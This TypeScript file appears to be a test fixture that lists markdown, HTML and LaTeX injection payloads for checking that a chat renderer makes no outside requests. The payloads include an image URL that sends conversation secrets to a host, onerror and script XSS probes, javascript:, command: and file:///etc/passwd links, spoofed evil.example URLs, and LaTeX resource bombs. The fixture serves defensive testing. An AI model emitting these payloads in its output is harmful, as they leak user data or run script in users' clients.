/** What a model could write to make the page load, run or open something. `host` is a server that must get no request. */
export const attacks = (host: string): readonly string[] => [
  ...pictures(host),
  ...html(host),
  ...links(host),
  ...formulas(host),
  ...places(host),
];

function pictures(host: string): string[] {
  return [
    `![picture](${host}/inline.png "t")`,
    `![angle](<${host}/angle.png>) ![sized](${host}/sized.png =100x100)`,
    `![][ref]\n\n[ref]: ${host}/reference.png`,
    `![collapsed][] ![shortcut]\n\n[collapsed]: ${host}/collapsed.png\n[shortcut]: ${host}/shortcut.png`,
    `[![nested](${host}/nested.png)](${host}/link)`,
    `![a ![b](${host}/inner.png)](${host}/outer.png)`,
    `![exfiltrate](${host}/log?secret=conversation)`,
    `![protocol](//${host.replace(/^https?:\/\//, '')}/relative.png) ![local](/local.png) ![up](../up.png)`,
    '![data](data:image/svg+xml,<svg onload=alert(1)>) ![svg](data:image/svg+xml;base64,PHN2Zz4=)',
    `!\\[escaped](${host}/escaped.png) !&#91;entity&#93;(${host}/bracket.png)`,
  ];
}

function html(host: string): string[] {
  return [
    `<img src="${host}/html.png" srcset="${host}/set.png 2x" onerror="alert(1)">`,
    `<picture><source srcset="${host}/source.png"><img src=${host}/picture.png></picture>`,
    `<video src="${host}/v.mp4" poster="${host}/poster.png" autoplay></video><audio src="${host}/a.mp3" autoplay>`,
    `<iframe src="${host}/frame"></iframe><object data="${host}/object"></object><embed src="${host}/embed">`,
    `<link rel="stylesheet" href="${host}/s.css"><style>@import url(${host}/i.css); body{background:url(${host}/b.png)}</style>`,
    `<link rel=prefetch href=${host}/prefetch><link rel=dns-prefetch href=${host}>`,
    `<div style="background:url(${host}/css.png)">x</div>`,
    `<div style="background-image:image-set('${host}/set.png' 1x);list-style:url(${host}/list.png)">x</div>`,
    `<svg><image href="${host}/svg.png"/><use href="${host}/use.svg#a"/><script>alert(1)</script></svg>`,
    `<math><maction actiontype="statusline#${host}" xlink:href="${host}/math">x</maction></math>`,
    `<script src="${host}/x.js"></script><script>alert(1)</script>`,
    `<base href="${host}/"><meta http-equiv="refresh" content="0;url=${host}/refresh">`,
    `<form action="${host}/form"><button autofocus onfocus="this.form.submit()">x</button></form>`,
    `<input type=image src=${host}/input.png><body background=${host}/body.png><table background=${host}/table.png>`,
    `<a href="${host}/ping" ping="${host}/pinged">x</a><details open ontoggle=alert(1)>`,
    `&#60;img src=${host}/entity.png&#62; &lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=${host}/hex.png&#x3e;`,
    '<!-- <img src=x onerror=alert(1)> -->\n\n<![CDATA[<img src=x>]]>\n\n<?php <img src=x> ?>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">\n\n<template><img src=x></template>',
  ];
}

function links(host: string): string[] {
  return [
    '[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,x) [d](command:workbench.action.quit)',
    '[e](vscode://x/y) [f](file:///etc/passwd) [g](&#106;avascript:alert(1)) [h](JAVASCRIPT&colon;alert(1))',
    '[i](java\tscript:alert(1)) [j]( javascript:alert(1)) [k](<javascript:alert(1)>) <javascript:alert(1)>',
    '[l](https://user:pass@acme.example/) [m](https://acme.example\\@evil.example/) [n](//evil.example) [o](/local)',
    '[q](https://acme.example%40evil.example/) [r](https://acme.example%2F@evil.example/) [s](https:\\\\evil.example)',
    '[t](https://acme.example/\u202egnp.exe) [u](https://acme.example/%E2%80%AE) [v](https://ac\u200bme.example/)',
    '[w](vscode-insiders://x) [x](vscode-webview://x/) [y](command:hostedModels.deleteLora?%5B%5D) <command:x>',
    '[z](blob:https://acme.example/1) [aa](filesystem:https://a/b) [ab](view-source:https://a.example) [ac](about:blank)',
    `${host}/auto <${host}/angle> www.evil.example help@acme.example`,
    '[p][js]\n\n[js]: javascript:alert(1)',
    '[command:workbench.action.quit](https://acme.example/honest "command:x")',
  ];
}

function formulas(host: string): string[] {
  return [
    `$\\href{${host}/href}{x}$ and $\\href{javascript:alert(1)}{x}$ and \\(\\url{${host}/url}\\)`,
    `$$\\includegraphics[height=1em]{${host}/graphics.png}$$`,
    `\\[\n\\htmlClass{icon}{x} \\htmlId{app}{x} \\htmlStyle{background:url(${host}/style.png)}{x} \\htmlData{a=b}{x}\n\\]`,
    `$\\class{icon}{x}$ $\\id{app}{x}$ $\\style{background:url(${host}/style.png)}{x}$ $\\data{a=b}{x}$ $\\ref{x}$`,
    `$\\texttip{x}{<img src=${host}/tip.png>}$ $\\fcolorbox{url(${host}/color.png)}{red}{x}$ $x\\label{app}$`,
    '$$\n\\def\\x{\\x\\x}\\x\n$$\n\n$\\rule{9999em}{9999em}$ $\\kern{99999em}x$',
    `$${'{'.repeat(900)}x${'}'.repeat(900)}$`,
    '$\\text{<img src=x onerror=alert(1)>}$ $\\unicode{60}script>$ $<img src=x onerror=alert(1)>$',
    '$\\color{transparent}\\textcolor{url(x)}{a}\\colorbox{red}{b}$ $\\verb|<script>|$',
  ];
}

function places(host: string): string[] {
  return [
    '```html" onload="alert(1)\n<img src=x onerror=alert(1)>\n```\n\n```<img/src=x>\nx\n```',
    `| <img src=x onerror=alert(1)> | a |\n|---|---|\n| ![t](${host}/cell.png) | <b onclick=alert(1)>x</b> |`,
    `# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n> ![q](${host}/quote.png)`,
    `- <iframe srcdoc="<script>alert(1)</script>">\n- [ ] ![task](${host}/task.png)`,
    `Note[^1].\n\n[^1]: ![footnote](${host}/footnote.png)`,
    `![never closed](${host}/open.png`,
  ];
}
